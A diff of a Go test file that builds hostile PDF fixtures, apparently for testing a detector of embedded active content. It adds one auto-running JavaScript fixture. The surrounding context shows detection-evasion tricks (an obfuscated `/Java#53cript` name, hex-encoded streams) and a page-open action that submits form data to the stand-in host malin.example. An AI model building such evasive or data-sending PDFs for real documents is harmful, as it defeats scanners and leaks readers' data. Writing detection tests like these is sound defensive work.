@@ -32,6 +32,9 @@ func activePDFs() []Entry {
 			catalog: "/OpenAction%x\r7 0 R", objects: []string{"<<%>>\n/S%/GoTo\r/Java#53cript\f/JS\x00(app.alert\\(1\\))>>"},
 		}), active),
 		hostile("carte 3.pdf", "the object stream is in hexadecimal, too", hexed, active),
+		hostile("RIB 2.pdf", "JavaScript, enciphered so that a search does not see it; everybody opens it", func() []byte {
+			return opened("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>")
+		}, active),
 		hostile("avis.pdf", "JavaScript when the page is shown", made(pdf{
 			page: "/AA<</O " + script(`this.submitForm\("http://malin.example/"\);`) + ">>",
 		}), active),
